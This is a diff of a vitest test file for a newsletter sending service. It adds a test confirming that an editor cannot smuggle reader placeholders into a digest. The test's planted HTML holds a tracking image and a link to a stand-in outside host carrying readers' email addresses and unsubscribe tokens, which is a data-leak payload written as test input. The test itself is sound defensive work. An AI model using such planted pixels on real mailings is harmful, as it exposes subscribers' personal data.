@@ -3,8 +3,9 @@ import { writeFileSync } from 'node:fs'
 import path from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 
+import { readerPlaceholders } from '../../src/services/digest/message'
 import { startSending } from '../../src/services/digest/send'
-import { verifyToken } from '../../src/services/platform/tokens'
+import { recordOfToken } from '../../src/services/platform/recordLinks'
 import { createReaders, duplicatesIn, prepareEdition, resetSink, testQueues, waitForStatus, workerEnv, type Readers } from '../helpers/digest'
 import { startPayload, type TestPayload } from '../helpers/payload'
 import { startSmtpSink, type SinkOptions, type SmtpSink } from '../helpers/smtpSink'
@@ -81,7 +82,7 @@ describe('sending an edition', () => {
       messageIds.add(message.parsed.messageId!)
       // The reader's own link, the same in the header, the HTML and the text part.
       const token = /unsubscribe\?token=([\w.-]+)>/.exec(head)![1]
-      expect(readerIds.get(verifyToken('unsubscribe', token))).toBe(reader)
+      expect(readerIds.get(recordOfToken('unsubscribe', token).id)).toBe(reader)
       expect(message.parsed.html).toContain(`https://mindful.test/newsletter/unsubscribe?token=${token}"`)
       expect(message.parsed.text).toContain(`https://mindful.test/newsletter/unsubscribe?token=${token}`)
       expect(message.parsed.subject).toBe('Mindful Moments #1: How to Regain a Partner’s Lost Trust')
@@ -124,6 +125,60 @@ describe('sending an edition', () => {
     const outcomes = docs.flatMap((batch) => Object.values(batch.outcomes as Record<string, { status: string }>))
     expect(outcomes.filter((o) => o.status === 'sent')).toHaveLength(30)
     expect(JSON.stringify(docs)).not.toContain('@readers.test')
+  })
+})
+
+describe('an editor who plants reader placeholders', () => {
+  it('cannot write the frozen HTML, stats, period or error, and gets no reader’s address out of a digest', { timeout: 120_000 }, async () => {
+    resetSink(sink)
+    const editor = await local.payload.create({ collection: 'users', data: { email: 'planter@mindful.test', password: 'editor-password-1', role: 'editor', name: 'Pat Planter' } as never })
+    const { docs: [article] } = await local.payload.find({ collection: 'articles', limit: 1, depth: 0 })
+    // The fixed placeholders of snapshots frozen before they became random per edition.
+    const known = readerPlaceholders(null)
+    const planted = `<html><body><img src="https://elsewhere.test/p.gif?e=${known.address}"><a href="https://elsewhere.test/?t=${known.token}">Hi ${known.name}</a></body></html>`
+    const asEditor = { user: editor, overrideAccess: false, depth: 0 } as const
+
+    // Text an editor writes that looks like a placeholder is refused with a reason.
+    await expect(
+      local.payload.create({ collection: 'editions', data: { subject: 'Hello', intro: `Write to us: https://elsewhere.test/?e=${known.address}`, articles: [article.id] } as never, ...asEditor }),
+    ).rejects.toThrow(/mmreader/)
+
+    const edition = await local.payload.create({
+      collection: 'editions',
+      data: {
+        subject: 'Mindful Moments: a planted edition',
+        articles: [article.id],
+        status: 'draft',
+        periodKey: 'planted',
+        sendError: 'planted',
+        snapshot: { subject: 'Planted', html: planted, text: known.address, renderedAt: new Date().toISOString(), placeholderKey: '' },
+        stats: { recipients: 0, sent: 1000 },
+      } as never,
+      ...asEditor,
+    })
+    await local.payload.update({ collection: 'editions', id: edition.id, data: { snapshot: { html: planted }, stats: { recipients: 0 } } as never, ...asEditor })
+    const stored = await local.payload.findByID({ collection: 'editions', id: edition.id, depth: 0, overrideAccess: true })
+    expect(stored.snapshot?.html ?? null).toBeNull()
+    expect(stored.snapshot?.placeholderKey ?? null).toBeNull()
+    expect(stored.periodKey ?? null).toBeNull()
+    expect(stored.sendError ?? null).toBeNull()
+    expect(stored.stats?.recipients ?? null).toBeNull()
+    expect(stored.stats?.sent ?? null).toBeNull()
+
+    await startSending(local.payload, edition.id, queues.jobs)
+    const sent = await waitForStatus(local.payload, edition.id, 'sent')
+    expect(sent.snapshot?.html).not.toContain('elsewhere.test')
+    // Random per edition: not the fixed strings anyone could have known.
+    expect(sent.snapshot?.html).not.toContain(known.token)
+    expect(sent.snapshot?.placeholderKey).toMatch(/^[A-Z]{16}$/)
+    expect([...sink.countsByRecipient().keys()].sort()).toEqual([...readers.active].sort())
+    for (const message of sink.messages) {
+      const [reader] = message.envelopeTo
+      expect(message.raw).not.toContain('elsewhere.test')
+      expect(message.parsed.html).not.toContain(reader)
+      expect(message.parsed.text).not.toContain(reader)
+      expect(message.parsed.html).not.toMatch(/mmreader/i)
+    }
   })
 })
 
